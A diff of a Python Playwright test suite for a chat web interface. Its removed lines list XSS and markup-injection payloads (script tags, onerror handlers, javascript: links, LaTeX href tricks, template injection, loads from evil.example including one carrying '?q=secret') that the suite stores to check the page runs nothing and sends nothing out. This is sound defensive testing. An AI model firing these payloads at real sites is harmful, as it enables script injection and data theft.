@@ -3,15 +3,8 @@ person writes is executed, no request leaves the server."""
 
 from __future__ import annotations
 
-import asyncio
-import contextlib
 import importlib.util
-import os
 import re
-import signal
-from collections.abc import Callable, Coroutine, Iterator
-from concurrent.futures import ThreadPoolExecutor
-from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any
 
@@ -19,155 +12,17 @@ import pytest
 
 from farthing.report.picture import browser as installed_browser
 from farthing.server.pages.history import History
-from tests.server.pages.test_runs import write_run
+from tests.server.pages.browsing import ATTACKS, SETTINGS, apart, begin, frozen, open_talk
 
-CHROMIUM = installed_browser()
 MISSING = [
     name
-    for name, there in (("chromium", CHROMIUM), ("playwright", importlib.util.find_spec("playwright")))
+    for name, there in (
+        ("chromium", installed_browser()),
+        ("playwright", importlib.util.find_spec("playwright")),
+    )
     if not there
 ]
 pytestmark = pytest.mark.skipif(bool(MISSING), reason=f"not installed: {', '.join(MISSING)}")
-SETTINGS: dict[str, Any] = {
-    "model": "caller", "system": "", "effort": None, "budget": 12, "temperature": 1.0, "max_tokens": 60,
-}  # fmt: skip
-ATTACKS = (
-    "<script>window.pwned=1</script>",
-    "<img src=x onerror=window.pwned=1>",
-    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
-    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
-    "<math><mtext></table><mglyph><style><img src=x onerror=window.pwned=1>",
-    "[a](javascript:window.pwned=1) [b](data:text/html,<script>1</script>) [c](vbscript:x)",
-    "[d](JaVaScRiPt&colon;window.pwned=1) <javascript:window.pwned=1>",
-    "![](https://evil.example/?q=secret) ![x](//evil.example/a.png)",
-    "[e]: javascript:window.pwned=1\n\n[e]",
-    '[f](https://ok.example "\\" onmouseover=window.pwned=1 x=\\"")',
-    "$\\href{javascript:window.pwned=1}{x}$ $\\htmlData{x=1}{y}$ $\\includegraphics{https://evil.example/a.png}$",
-    "$$\\url{javascript:window.pwned=1}$$ \\(\\htmlStyle{position:fixed}{z}\\) $\\text{<img src=x onerror=pwned=1>}$",
-    "```html\n<script>window.pwned=1</script>\n```\n`<img src=x onerror=window.pwned=1>`",
-    '```"onmouseover=window.pwned=1\nx\n```',
-    "|<img src=x onerror=window.pwned=1>|b|\n|-|-|\n|<script>window.pwned=1</script>|c|",
-    "<https://evil.example/><style>@import 'https://evil.example/a.css'</style><base href=//evil.example/>",
-    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} \u202e\u2028",
-)
-
-
-@dataclass
-class Opened:
-    """A page, and everything it complained about, asked for or tried to open."""
-
-    page: Any
-    complaints: list[str] = field(default_factory=list)
-    requests: list[str] = field(default_factory=list)
-
-    def send(self, text: str) -> None:
-        self.page.get_by_label("Message").fill(text)
-        self.page.keyboard.press("Enter")
-
-    def settled(self, replies: int = 1) -> None:
-        """Until so many replies stand there and none is being written."""
-        self.page.wait_for_function(
-            "n => document.querySelectorAll('.replied').length === n && !document.querySelector('[aria-busy=true]')",
-            arg=replies,
-        )
-
-
-@contextlib.contextmanager
-def frozen(server: Any) -> Iterator[None]:
-    """The engine stands still, so that there is time to look; for less than it takes to be noticed."""
-    os.kill(server.engine_pid(), signal.SIGSTOP)
-    try:
-        yield
-    finally:
-        os.kill(server.engine_pid(), signal.SIGCONT)
-
-
-@pytest.fixture(scope="module")
-def talks(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    return tmp_path_factory.mktemp("talks") / "talks.sqlite"
-
-
-@pytest.fixture(scope="module")
-def pages(
-    start_server: Any, caller_directory: Path, talks: Path, tmp_path_factory: pytest.TempPathFactory
-) -> Any:
-    """A server of its own; a conversation full of attacks is in its file before it starts."""
-    apart(poison(talks))
-    runs = tmp_path_factory.mktemp("runs")
-    write_run(runs / "one", steps=(5, 10))
-    write_run(runs / "two", reward=0.75)
-    return start_server([("caller", caller_directory)], conversations=str(talks), runs=str(runs))
-
-
-def apart(work: Coroutine[Any, Any, Any]) -> Any:
-    """In a thread of its own: Playwright's loop runs in this one."""
-    with ThreadPoolExecutor(1) as thread:
-        return thread.submit(asyncio.run, work).result()
-
-
-async def poison(path: Path) -> None:
-    history = History(path)
-    talk = await history.do(History.begin, SETTINGS)
-    parent = None
-    for attack in ATTACKS:
-        said = await history.do(History.add, talk["id"], parent, "user", attack, finish="stop")
-        reply = await history.do(History.add, talk["id"], said["id"], "assistant")
-        await history.do(
-            History.write, reply["id"], attack, attack, "stop", {"model": attack, "error": attack}
-        )
-        parent = reply["id"]
-    await history.do(History.change, talk["id"], title=ATTACKS[1])
-    history.close()
-
-
-@pytest.fixture(scope="module")
-def chromium() -> Iterator[Any]:
-    from playwright.sync_api import sync_playwright
-
-    with sync_playwright() as playwright:
-        running = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
-        yield running
-        running.close()
-
-
-@pytest.fixture
-def visit(chromium: Any, pages: Any) -> Iterator[Callable[..., Opened]]:
-    """visit(path): a page of a fresh browser; in the end nothing has gone wrong in it or left the server."""
-    contexts, visited = [], []
-
-    def go(path: str = "/", **settings: Any) -> Opened:
-        context = chromium.new_context(viewport={"width": 1200, "height": 800}, **settings)
-        context.set_default_timeout(20_000)
-        opened = Opened(context.new_page())
-        contexts.append(context)
-        visited.append(opened)
-        opened.page.on("console", lambda message: opened.complaints.append(message.text))
-        opened.page.on("pageerror", lambda error: opened.complaints.append(str(error)))
-        opened.page.on("dialog", lambda dialog: (opened.complaints.append("dialog"), dialog.dismiss()))
-        opened.page.on("request", lambda request: opened.requests.append(request.url))
-        opened.page.goto(pages.url + path)
-        opened.page.wait_for_selector("h1, .replied")
-        return opened
-
-    yield go
-    for opened in visited:
-        assert opened.complaints == []
-        assert [url for url in opened.requests if not url.startswith((pages.url, "data:"))] == []
-    for context in contexts:
-        context.close()
-
-
-def begin(pages: Any, **settings: Any) -> str:
-    answer = pages.post("/api/conversations", {"settings": SETTINGS | settings})
-    assert answer.status_code == 201, answer.text
-    return f"/#/c/{answer.json()['id']}"
-
-
-def open_talk(visit: Any, pages: Any, **settings: Any) -> Opened:
-    opened = visit("/")
-    opened.page.goto(pages.url + begin(pages, **settings))
-    opened.page.wait_for_selector(".thread")
-    return opened
 
 
 def test_thinking_has_a_clock_and_folds_when_the_answer_begins(visit: Any, pages: Any) -> None:
@@ -225,10 +80,9 @@ def test_branches_are_made_by_editing_and_regenerating_and_walked_between(visit:
     opened.settled()
     page.locator(".asked").hover()
     page.locator(".asked").get_by_role("button", name="Edit").click()
-    page.get_by_label("Edit your message").fill("other words")
-    page.keyboard.press("Enter")
-    opened.settled()
+    opened.rewrite("Edit your message", "other words")
     page.wait_for_selector(".asked .branches")
+    opened.settled()
     assert page.locator(".asked .said").inner_text() == "other words"
     page.locator(".asked").hover()
     page.locator(".asked").get_by_label("Previous version").click()
@@ -244,8 +98,7 @@ def test_a_models_answer_is_edited_on_a_branch_of_its_own_and_continued(visit: A
     opened.send("what is 3*8")
     opened.settled()
     page.locator(".replied").get_by_role("button", name="Edit").click()
-    page.get_by_label("Edit the model's answer").fill("It is")
-    page.keyboard.press("Enter")
+    opened.rewrite("Edit the model's answer", "It is")
     page.wait_for_selector(".replied .branches:has-text('2 of 2')")
     assert page.locator(".replied .prose").inner_text() == "It is"
     page.get_by_role("button", name="Continue").click()
